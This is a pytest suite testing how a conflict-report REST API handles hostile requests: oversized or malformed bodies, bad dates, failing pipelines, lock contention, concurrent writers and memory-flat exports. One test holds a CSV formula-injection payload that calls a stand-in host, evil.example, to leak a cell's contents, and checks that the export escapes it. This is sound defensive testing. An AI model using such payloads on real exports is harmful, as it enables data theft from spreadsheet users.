"""The REST API against hostile or unlucky requests, on SQLite and PostgreSQL: request bodies that are
too large (refused unread, after the token check), reports that cannot be text, dates that cannot be
publication dates, a pipeline that fails, a ledger that is busy, many writers at once with a new
source, formulas in CSV exports, and exports that must stream in flat memory."""

from __future__ import annotations

import asyncio
import contextlib
import csv
import datetime as dt
import io
import json
import socket
import sqlite3
import threading
import time
import uuid

import pytest
from backends import BACKENDS, fresh_ledger_url
from fastapi.testclient import TestClient
from sqlalchemy import func, select
from sqlalchemy.exc import OperationalError

from sitrep.api import create_app
from sitrep.records import Article, CodingProblem, Evidence, Extraction, Incident, Place, Range
from sitrep.store.ledger import Ledger
from sitrep.store.schema import ArticleRow, SourceRow

TOKEN = "s3cret"
AUTH = {"Authorization": f"Bearer {TOKEN}"}


@pytest.fixture(params=BACKENDS)
def ledger(request, tmp_path):
    ledger = Ledger(fresh_ledger_url(request, tmp_path))
    yield ledger
    ledger.close()


class FakePipeline:
    """Codes every report as one attack in a town of its own (no language model needed)."""

    def __init__(self) -> None:
        self.calls = 0

    def extract(self, article: Article) -> Extraction:
        self.calls += 1
        n = int(article.id[:6], 16)
        return Extraction(incidents=[Incident(
            id=f"T-{article.id}", event_type="Violence against civilians", sub_event_type="Attack",
            date=article.published, date_precision="day" if article.published else None,
            location=Place(name=f"Town {n}", lat=-30 + n % 60, lon=-170 + n % 340, country_code="BF",
                           precision="town"),
            killed=Range(low=1, best=1, high=1), articles=[article.id],
            evidence=[Evidence(field="event", article_id=article.id, start=0, end=len(article.text),
                               text=article.text)],
        )])


def app_for(ledger, pipeline=None, **kw):
    kw.setdefault("write_token", TOKEN)
    kw.setdefault("read_token", None)
    return create_app(ledger=ledger, pipeline_factory=lambda: pipeline or FakePipeline(), **kw)


def count(ledger, model) -> int:
    with ledger._sessions() as session:
        return session.scalar(select(func.count()).select_from(model))


# ------------------------------------------------------------------ request bodies: token first, then size


def asgi_post(app, chunks, headers=(), path="/articles"):
    """POST to the ASGI app directly, the body coming as `chunks` (each one `receive`); returns
    (status, headers, JSON body, how many chunks the app read)."""
    chunks = list(chunks)
    read = 0
    sent: list[dict] = []

    async def receive():
        nonlocal read
        if read < len(chunks):
            read += 1
            return {"type": "http.request", "body": chunks[read - 1], "more_body": read < len(chunks)}
        await asyncio.sleep(3600)  # a client that sends nothing more
        return {"type": "http.disconnect"}

    async def send(message):
        sent.append(message)

    scope = {
        "type": "http", "asgi": {"version": "3.0"}, "http_version": "1.1", "method": "POST", "scheme": "http",
        "path": path, "raw_path": path.encode(), "root_path": "", "query_string": b"",
        "headers": [(k.lower().encode(), v.encode()) for k, v in headers], "client": ("127.0.0.1", 50000),
        "server": ("testserver", 80),
    }
    asyncio.run(asyncio.wait_for(app(scope, receive, send), 30))
    start = next(m for m in sent if m["type"] == "http.response.start")
    body = b"".join(m.get("body", b"") for m in sent if m["type"] == "http.response.body")
    response_headers = {k.decode().lower(): v.decode() for k, v in start["headers"]}
    return start["status"], response_headers, json.loads(body), read


class Megabytes:
    """`n` chunks of 1 MiB (the same bytes object each time: nothing big is held)."""

    CHUNK = b" " * (1 << 20)

    def __init__(self, n: int) -> None:
        self.n = n

    def __iter__(self):
        for _ in range(self.n):
            yield self.CHUNK


def test_unauthenticated_large_body_is_refused_unread(ledger):
    big = [("content-type", "application/json"), ("content-length", str(200 << 20))]
    app = app_for(ledger)
    for headers, status in ((big, 401), (big + [("authorization", "Bearer nope")], 401)):
        got, response_headers, body, read = asgi_post(app, Megabytes(200), headers)
        assert (got, read) == (status, 0), body
        assert response_headers["www-authenticate"] == "Bearer"
    no_writes = app_for(ledger, write_token=None)
    got, _, body, read = asgi_post(no_writes, Megabytes(200), big + [("authorization", f"Bearer {TOKEN}")])
    assert (got, read) == (403, 0) and "SITREP_TOKEN" in body["detail"]
    chunked = [("content-type", "application/json")]  # no Content-Length: the token is still first
    got, _, _, read = asgi_post(app, Megabytes(200), chunked)
    assert (got, read) == (401, 0)
    assert count(ledger, ArticleRow) == 0


def test_authenticated_body_over_the_limit_is_413_unread(ledger):
    app = app_for(ledger, max_body_bytes=1000)
    headers = [("content-type", "application/json"), ("authorization", f"Bearer {TOKEN}"),
               ("content-length", str(200 << 20))]
    got, response_headers, body, read = asgi_post(app, Megabytes(200), headers)
    assert (got, read) == (413, 0)
    assert "1,000 bytes" in body["detail"] and "209,715,200" in body["detail"]
    assert count(ledger, ArticleRow) == 0


def test_chunked_body_over_the_limit_is_413_once_past_it(ledger):
    app = app_for(ledger, max_body_bytes=1000)
    headers = [("content-type", "application/json"), ("authorization", f"Bearer {TOKEN}")]
    got, _, body, read = asgi_post(app, [b" " * 100] * 1000, headers)
    assert got == 413 and "limit is 1,000 bytes" in body["detail"]
    assert read == 11  # stopped at the chunk that passed the limit, not at the end of the body
    report = json.dumps({"text": "Gunmen killed 2 people in Djibo on Monday.", "published": "2024-05-02"}).encode()
    got, _, body, _ = asgi_post(app, [report[:10], report[10:]], headers)  # chunked, under the limit
    assert got == 201 and body["stored"] is True, body
    assert count(ledger, ArticleRow) == 1


def test_body_limit_from_the_environment_and_in_the_schema(ledger, monkeypatch):
    monkeypatch.setenv("SITREP_MAX_BODY_BYTES", "300")
    with TestClient(app_for(ledger)) as c:
        r = c.post("/articles", json={"text": "x" * 400}, headers=AUTH)
        assert r.status_code == 413 and "300 bytes" in r.json()["detail"]
        r = c.post("/articles", json={"text": "Gunmen killed 2 people in Djibo.", "published": "2024-05-02"},
                   headers=AUTH)
        assert r.status_code == 201, r.text
        schema = c.get("/openapi.json").json()
    assert "SITREP_MAX_BODY_BYTES" in schema["info"]["description"] and "300 bytes" in schema["info"]["description"]
    post = schema["paths"]["/articles"]["post"]
    assert "413" in post["responses"] and "300 bytes" in post["responses"]["413"]["description"]
    assert "503" in post["responses"]
    assert post["requestBody"]["content"]["application/json"]["schema"] == {"$ref": "#/components/schemas/ArticleIn"}
    components = schema["components"]["schemas"]
    assert "published" in components["ArticleIn"]["properties"]
    assert {"problems", "skipped"} <= set(components["IngestResult"]["properties"])
    monkeypatch.setenv("SITREP_MAX_BODY_BYTES", "lots")
    with pytest.raises(ValueError, match="SITREP_MAX_BODY_BYTES"):
        app_for(ledger)


def test_default_limit_is_8_mib(ledger):
    from sitrep.api.app import DEFAULT_MAX_BODY_BYTES

    assert DEFAULT_MAX_BODY_BYTES == 8 * 1024 * 1024
    headers = [("authorization", f"Bearer {TOKEN}"), ("content-length", str(DEFAULT_MAX_BODY_BYTES + 1))]
    got, _, _, read = asgi_post(app_for(ledger), Megabytes(9), headers)
    assert (got, read) == (413, 0)


# ------------------------------------------------------------------ POST /articles never answers 500


@pytest.fixture
def writer(ledger):
    with TestClient(app_for(ledger)) as c:
        yield c


def post_raw(client, raw: bytes):
    return client.post("/articles", content=raw, headers={**AUTH, "Content-Type": "application/json"})


@pytest.mark.parametrize("field", ["text", "title", "source", "url"])
def test_lone_surrogates_are_400(writer, ledger, field):
    body = {"text": "Gunmen killed 2 people in Djibo.", field: "Djibo \ud800 attack"}
    raw = json.dumps(body).encode()  # ASCII JSON: the surrogate travels as the escape \ud800
    assert b"\\ud800" in raw
    r = post_raw(writer, raw)
    assert r.status_code == 400, r.text
    detail = r.json()["detail"]
    assert detail.startswith(f"{field}:") and "surrogate" in detail and "\\ud800" in detail
    r = post_raw(writer, b'{"text": "a lone low half \\udc00"}')
    assert r.status_code == 400 and "surrogate" in r.json()["detail"]
    assert count(ledger, ArticleRow) == 0


def test_nul_characters_and_bad_bodies_are_400(writer, ledger):
    r = writer.post("/articles", json={"text": "Gunmen killed 2\x00 people."}, headers=AUTH)
    assert r.status_code == 400 and "NUL" in r.json()["detail"]
    for raw, words in ((b"{not json", "not valid JSON"), (b'{"text": "caf\xe9"}', "not UTF-8"),
                       (b"[1, 2]", "valid dictionary"), (b"", "empty"), (b"[" * 100_000, "not valid JSON"),
                       (b'{"text": 5}', "text")):
        r = post_raw(writer, raw)
        assert r.status_code == 400, (raw[:20], r.text)
        assert words in r.json()["detail"], (raw[:20], r.json())
    r = writer.post("/articles", json={"text": "x", "source": "s" * 201}, headers=AUTH)
    assert r.status_code == 400 and "source" in r.json()["detail"]
    assert count(ledger, ArticleRow) == 0


@pytest.mark.parametrize("published", ["0001-01-01", "1799-12-31", "9999-12-31", "2999-01-01", "someday",
                                       "2024-02-30", "2024-03-05T10:00:00Z", "99999-01-01", "-2024-01-01"])
def test_published_outside_sane_bounds_or_malformed_is_400(writer, ledger, published):
    r = writer.post("/articles", json={"text": "Gunmen killed 2 people in Djibo.", "published": published},
                    headers=AUTH)
    assert r.status_code == 400, r.text
    assert r.json()["detail"].startswith("published:")
    assert count(ledger, ArticleRow) == 0


def test_published_within_bounds_is_accepted(writer):
    today = dt.datetime.now(dt.timezone.utc).date()
    for n, day in enumerate(("1800-01-01", "1914-06-28", today.isoformat())):
        r = writer.post("/articles", json={"text": f"Gunmen killed {n + 2} people in Djibo.", "published": day},
                        headers=AUTH)
        assert r.status_code == 201, r.text


class Failing:
    def extract(self, article):
        raise RuntimeError("the parser fell over")


def test_a_report_the_pipeline_fails_on_is_stored_with_the_problem(ledger):
    with TestClient(app_for(ledger, Failing())) as c:
        r = c.post("/articles", json={"text": "Gunmen killed 2 people in Djibo.", "source": "Radio"}, headers=AUTH)
        assert r.status_code == 201, r.text
        body = r.json()
        assert body["stored"] is True and body["incidents"] == [] and body["skipped"] is None
        [problem] = body["problems"]
        assert problem["stage"] == "pipeline"
        assert "RuntimeError: the parser fell over" in problem["detail"] and "test_api_abuse.py:" in problem["detail"]
        article = c.get(f"/articles/{body['article_id']}")
        assert article.status_code == 200 and article.json()["text"] == "Gunmen killed 2 people in Djibo."
        again = c.post("/articles", json={"text": "Gunmen killed 2 people in Djibo."}, headers=AUTH)
        assert again.status_code == 200 and again.json()["stored"] is False and again.json()["problems"] == []


def test_problems_and_skipped_from_the_pipeline_are_listed(ledger):
    class Partial(FakePipeline):
        def extract(self, article):
            extraction = super().extract(article)
            extraction.problems = [CodingProblem(stage="roles", start=0, end=5,
                                                 detail="IndexError: list index out of range (roles.py:12)")]
            return extraction

    class Skipping:
        def extract(self, article):
            return Extraction(skipped="language: fr (not supported yet)")

    with TestClient(app_for(ledger, Partial())) as c:
        body = c.post("/articles", json={"text": "Gunmen killed 2 people in Djibo."}, headers=AUTH).json()
        assert body["problems"] == [{"stage": "roles", "detail": "IndexError: list index out of range (roles.py:12)"}]
        assert len(body["incidents"]) == 1
    with TestClient(app_for(ledger, Skipping())) as c:
        r = c.post("/articles", json={"text": "Des hommes armés ont tué deux personnes."}, headers=AUTH)
        assert r.status_code == 201 and r.json()["skipped"] == "language: fr (not supported yet)"
        assert r.json()["problems"] == []


class Wrapped:
    """The ledger, with `add` replaced."""

    def __init__(self, inner, add):
        self.inner, self.add = inner, add

    def __getattr__(self, name):
        return getattr(self.inner, name)


def test_incidents_that_cannot_be_stored_leave_the_report_stored(ledger):
    def add(article, extraction):
        if extraction.incidents:
            raise ValueError("the merge step fell over")
        return ledger.add(article, extraction)

    with TestClient(app_for(Wrapped(ledger, add))) as c:
        r = c.post("/articles", json={"text": "Gunmen killed 2 people in Djibo."}, headers=AUTH)
    assert r.status_code == 201, r.text
    body = r.json()
    assert body["stored"] is True and body["incidents"] == []
    assert [p["stage"] for p in body["problems"]] == ["store"]
    assert "ValueError: the merge step fell over" in body["problems"][0]["detail"]
    assert ledger.article(body["article_id"]) is not None


class PgError(Exception):
    sqlstate = "40P01"  # deadlock detected


@pytest.mark.parametrize("cause", [sqlite3.OperationalError("database is locked"), PgError("deadlock detected")])
def test_a_busy_ledger_is_503_with_retry_after(ledger, cause):
    def add(article, extraction):
        raise OperationalError("INSERT INTO articles ...", {}, cause)

    with TestClient(app_for(Wrapped(ledger, add))) as c:
        r = c.post("/articles", json={"text": "Gunmen killed 2 people in Djibo."}, headers=AUTH)
    assert r.status_code == 503, r.text
    assert int(r.headers["retry-after"]) > 0
    assert "busy" in r.json()["detail"] and "nothing was stored" in r.json()["detail"]
    assert count(ledger, ArticleRow) == 0


def test_a_sqlite_ledger_locked_by_another_writer_is_503(tmp_path):
    """A real lock: another connection holds the write lock past the busy timeout (shortened here)."""
    from sqlalchemy import event

    path = tmp_path / "locked.db"
    real = Ledger(str(path))
    real.engine.dispose()
    event.listen(real.engine, "connect", lambda dbapi, _record: dbapi.execute("PRAGMA busy_timeout=200"))
    holder = sqlite3.connect(path, isolation_level=None)
    holder.execute("BEGIN IMMEDIATE")
    try:
        with TestClient(app_for(real)) as c:
            r = c.post("/articles", json={"text": "Gunmen killed 2 people in Djibo."}, headers=AUTH)
        assert r.status_code == 503, r.text
        assert "retry-after" in r.headers
    finally:
        holder.execute("ROLLBACK")
        holder.close()
        real.close()


def test_a_pipeline_that_cannot_load_is_503_and_nothing_stored(ledger):
    def broken():
        raise OSError("model en_core_web_sm not found")

    app = create_app(ledger=ledger, write_token=TOKEN, read_token=None, pipeline_factory=broken)
    with TestClient(app) as c:
        r = c.post("/articles", json={"text": "Gunmen killed 2 people in Djibo."}, headers=AUTH)
    assert r.status_code == 503 and "could not be loaded" in r.json()["detail"]
    assert count(ledger, ArticleRow) == 0


# ------------------------------------------------------------------ a real server: many writers, one new source


@contextlib.contextmanager
def serving(app):
    """`app` on a real uvicorn server on a free loopback port, in a thread; yields its base URL."""
    import uvicorn

    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    sock.bind(("127.0.0.1", 0))
    port = sock.getsockname()[1]
    server = uvicorn.Server(uvicorn.Config(app, log_level="warning", lifespan="off"))
    thread = threading.Thread(target=server.run, kwargs={"sockets": [sock]}, daemon=True)
    thread.start()
    deadline = time.monotonic() + 20
    while not server.started:
        assert time.monotonic() < deadline and thread.is_alive(), "the server did not start"
        time.sleep(0.01)
    try:
        yield f"http://127.0.0.1:{port}"
    finally:
        server.should_exit = True
        thread.join(20)
        sock.close()


def test_twenty_concurrent_reports_with_one_new_source_are_all_stored(ledger):
    import httpx

    source = f"New Wire {uuid.uuid4().hex[:8]}"
    barrier = threading.Barrier(20)
    answers: list = [None] * 20

    def post(n: int, base: str) -> None:
        report = {"text": f"Gunmen killed {n + 2} people in Village{n} on Monday, police said.",
                  "source": source, "published": "2024-05-0" + str(1 + n % 9)}
        with httpx.Client(base_url=base, timeout=60) as client:
            barrier.wait()
            r = client.post("/articles", json=report, headers=AUTH)
            answers[n] = (r.status_code, r.json())

    with serving(app_for(ledger)) as base:
        threads = [threading.Thread(target=post, args=(n, base)) for n in range(20)]
        for t in threads:
            t.start()
        for t in threads:
            t.join(120)
    assert [a[0] for a in answers] == [201] * 20, [a for a in answers if a[0] != 201]
    assert all(a[1]["stored"] and a[1]["problems"] == [] and len(a[1]["incidents"]) == 1 for a in answers)
    with ledger._sessions() as session:
        assert session.scalar(select(func.count()).select_from(SourceRow).where(SourceRow.name == source)) == 1
    assert count(ledger, ArticleRow) == 20
    assert all(ledger.article(a[1]["article_id"]).source == source for a in answers)


def test_a_large_unauthenticated_upload_is_answered_without_waiting_for_it(ledger):
    """Over a real socket: 200 MB announced, nothing sent; the 401 comes at once."""
    with serving(app_for(ledger)) as base:
        host, port = base.removeprefix("http://").split(":")
        with socket.create_connection((host, int(port)), timeout=10) as conn:
            conn.sendall(b"POST /articles HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
                         b"Content-Length: 209715200\r\n\r\n" + b" " * 1000)
            started = time.monotonic()
            answer = conn.recv(65536)
        assert answer.startswith(b"HTTP/1.1 401"), answer[:200]
        assert time.monotonic() - started < 5


def test_a_formula_in_a_source_comes_out_escaped_in_export_csv(ledger):
    source = '=HYPERLINK("http://evil.example/?"&A1,"Click here")'
    with TestClient(app_for(ledger)) as c:
        r = c.post("/articles", json={"text": "Gunmen killed 2 people in Djibo.", "source": source,
                                      "published": "2024-05-02"}, headers=AUTH)
        assert r.status_code == 201, r.text
        text = c.get("/export.csv").text
    [row] = list(csv.DictReader(io.StringIO(text)))
    assert row["source"] == "'" + source
    assert row["notes"].startswith("On 2 May 2024, an attack")  # written for the incident: no formula
    assert float(row["longitude"]) == pytest.approx(r.json()["incidents"][0]["location"]["lon"])


# ------------------------------------------------------------------ exports stream in flat memory


@pytest.mark.parametrize("backend", BACKENDS)
def test_api_exports_stream_in_memory_that_does_not_grow_with_the_ledger(backend, request, tmp_path, monkeypatch):
    """5 times as many incidents, about the same peak memory (pages of 50 here, so both span pages)."""
    import tracemalloc

    from test_exports import fill_synthetic

    paged = getattr(Ledger, "iter_incidents", None)
    monkeypatch.setattr(Ledger, "iter_incidents", lambda self, **kw: paged(self, **{**kw, "page_size": 50}),
                        raising=False)
    peaks = {}
    for n in (200, 1000):
        ledger = Ledger(f"sqlite:///{tmp_path / f'big-{n}.db'}" if backend == "sqlite"
                        else request.getfixturevalue("postgres").create_database())
        fill_synthetic(ledger, n)
        with TestClient(app_for(ledger)) as c:
            for path in ("/export.csv", "/export.geojson"):
                size = 0
                tracemalloc.start()
                with c.stream("GET", path) as r:
                    assert r.status_code == 200
                    for chunk in r.iter_bytes():
                        size += len(chunk)
                _, peak = tracemalloc.get_traced_memory()
                tracemalloc.stop()
                peaks[n, path] = peak
                rows = n - n // 4 if path == "/export.csv" else n  # ACLED CSV leaves out the undated quarter
                assert size > rows * 300
                if path == "/export.csv":
                    assert r.headers["X-Sitrep-Undated-Left-Out"] == str(n // 4)
        ledger.close()
    for path in ("/export.csv", "/export.geojson"):
        assert peaks[1000, path] < 1.5 * peaks[200, path], peaks
